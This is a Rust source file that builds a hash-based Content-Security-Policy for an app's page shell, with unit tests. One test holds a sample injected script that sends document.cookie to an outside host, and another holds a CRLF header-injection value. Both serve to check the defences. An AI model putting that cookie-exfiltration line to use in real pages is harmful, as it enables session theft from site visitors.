//! The Content-Security-Policy is worked out once, when the app is built: the SHA-256 of the one
//! inline loader script Trunk writes into the page shell goes into `dist/csp.txt`, and every
//! server sends that file's line. A script injected into any page later has another hash, so
//! browsers refuse to run it.

use std::path::Path;

use sha2::{Digest, Sha256};

use crate::policy;

/// The file, beside the app's index.html, that holds the header value (one line).
pub const CSP_FILE: &str = "csp.txt";

/// The policy for a page shell: the hash of its one inline script, or why there is none.
pub fn policy_for_shell(html: &str) -> Result<String, String> {
    let scripts: Vec<&str> = inline_scripts(html).collect();
    match scripts[..] {
        [loader] => Ok(policy::content_security_policy(&base64(&Sha256::digest(
            loader.as_bytes(),
        )))),
        _ => Err(format!(
            "the page shell has {} inline scripts; it must have exactly one, Trunk's loader",
            scripts.len()
        )),
    }
}

/// `carefinder-serve csp DIST`: writes DIST/csp.txt from DIST/index.html, the page Trunk wrote.
pub fn write_policy(dist: &Path) -> Result<String, String> {
    let shell = dist.join("index.html");
    let html = std::fs::read_to_string(&shell).map_err(|e| {
        format!(
            "{}: cannot be read ({e}); build the app first",
            shell.display()
        )
    })?;
    let policy = policy_for_shell(&html).map_err(|e| format!("{}: {e}", shell.display()))?;
    let file = dist.join(CSP_FILE);
    std::fs::write(&file, format!("{policy}\n"))
        .map_err(|e| format!("{}: cannot be written ({e})", file.display()))?;
    Ok(policy)
}

/// Reads the policy a build wrote; a server refuses to start without one.
pub fn read_policy(dist: &Path) -> std::io::Result<String> {
    let file = dist.join(CSP_FILE);
    let plain = |kind, why: String| std::io::Error::new(kind, format!("{}: {why}", file.display()));
    let text = std::fs::read_to_string(&file).map_err(|e| {
        plain(
            e.kind(),
            format!(
                "cannot be read ({e}); it is written at build time by `carefinder-serve csp {}`",
                dist.display()
            ),
        )
    })?;
    let line = text.strip_suffix('\n').unwrap_or(&text);
    let usable =
        line.starts_with("default-src ") && line.bytes().all(|b| b == b' ' || b.is_ascii_graphic());
    if !usable {
        return Err(plain(
            std::io::ErrorKind::InvalidData,
            "is not one Content-Security-Policy line; rebuild the app".into(),
        ));
    }
    Ok(line.to_string())
}

/// The text of every `<script>` element without a `src` attribute, as the browser would hash
/// it: everything between the start tag's `>` and the next `</script`.
fn inline_scripts(html: &str) -> impl Iterator<Item = &str> {
    let lower = html.to_ascii_lowercase();
    let mut starts = Vec::new();
    let mut from = 0;
    while let Some(at) = lower[from..].find("<script") {
        let tag = from + at;
        from = tag + "<script".len();
        // `<scripts>` or `<script-x>` are other elements.
        if !lower[from..].starts_with(|c: char| c == '>' || c.is_ascii_whitespace() || c == '/') {
            continue;
        }
        let Some(close) = lower[from..].find('>') else {
            break;
        };
        let attributes = &lower[from..from + close];
        let body = from + close + 1;
        let Some(end) = lower[body..].find("</script") else {
            break;
        };
        if !has_src(attributes) {
            starts.push((body, body + end));
        }
        from = body + end;
    }
    starts
        .into_iter()
        .map(move |(start, end)| &html[start..end])
}

/// Whether a start tag's attributes (lower case) include `src`, not just a name ending in it.
fn has_src(attributes: &str) -> bool {
    attributes.match_indices("src").any(|(at, _)| {
        let before = attributes[..at]
            .chars()
            .next_back()
            .is_none_or(|c| c.is_ascii_whitespace() || c == '"' || c == '\'');
        let after = attributes[at + 3..].trim_start();
        before
            && (after.is_empty()
                || after.starts_with('=')
                || after.starts_with(|c: char| c.is_ascii_whitespace() || c == '/'))
    })
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const LOADER: &str = "import init from '/a.js';";
    // SHA-256 of LOADER, worked out with `printf %s "..." | openssl dgst -sha256 -binary | base64`.
    const LOADER_HASH: &str = "'sha256-aOee+rvEUMphqlepW7nBjXpcT6aM6jxNXbtEv0XP738='";

    fn shell() -> String {
        format!("<head><script type=\"module\">{LOADER}</script><script src=\"/x.js\"></script><link rel=modulepreload href=/a.js></head><body></body>")
    }

    #[test]
    fn base64_matches_the_rfc_4648_examples() {
        for (plain, encoded) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
        ] {
            assert_eq!(base64(plain.as_bytes()), encoded);
        }
    }

    #[test]
    fn the_policy_allows_exactly_the_inline_loader_by_hash() {
        let csp = policy_for_shell(&shell()).unwrap();
        assert!(csp.contains(LOADER_HASH), "{csp}");
        assert_eq!(csp.matches("'sha256-").count(), 1);
    }

    #[test]
    fn a_script_injected_into_a_page_is_not_allowed_by_the_header() {
        let csp = policy_for_shell(&shell()).unwrap();
        let injected = "fetch('https://example.org/?'+document.cookie)";
        let page = shell().replace(
            "<body>",
            &format!("<body><p>Rose</p><SCRIPT>{injected}</SCRIPT>"),
        );
        // The header names one hash, the loader's; the injected script's hash is not it.
        let injected_hash = format!("'sha256-{}'", base64(&Sha256::digest(injected.as_bytes())));
        assert!(
            !csp.contains(&injected_hash) && csp.contains(LOADER_HASH),
            "{csp}"
        );
        // And a shell with a second inline script is refused at build time.
        let err = policy_for_shell(&page).unwrap_err();
        assert!(err.contains("has 2 inline scripts"), "{err}");
    }

    #[test]
    fn only_script_elements_without_src_count() {
        let html = "<scripts>no</scripts><script-x>no</script-x><script data-src=\"a\">one</script><script\nsrc='/b.js'></script><script defer src=/c.js></script>";
        assert_eq!(inline_scripts(html).collect::<Vec<_>>(), ["one"]);
        assert_eq!(
            policy_for_shell("<p>no scripts</p>").unwrap_err(),
            "the page shell has 0 inline scripts; it must have exactly one, Trunk's loader"
        );
    }

    #[test]
    fn the_file_written_at_build_time_is_what_the_server_reads() {
        let dir = std::env::temp_dir().join(format!("carefinder-csp-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let _ = std::fs::remove_file(dir.join(CSP_FILE));
        let missing = read_policy(&dir).unwrap_err().to_string();
        assert!(
            missing.contains("csp.txt: cannot be read") && missing.contains("carefinder-serve csp"),
            "{missing}"
        );
        std::fs::write(dir.join("index.html"), shell()).unwrap();
        let written = write_policy(&dir).unwrap();
        assert_eq!(
            std::fs::read_to_string(dir.join(CSP_FILE)).unwrap(),
            format!("{written}\n")
        );
        assert_eq!(read_policy(&dir).unwrap(), written);
        std::fs::write(dir.join(CSP_FILE), "default-src 'self'\r\nX-Injected: 1\n").unwrap();
        assert!(read_policy(&dir)
            .unwrap_err()
            .to_string()
            .contains("is not one Content-Security-Policy line"));
    }
}
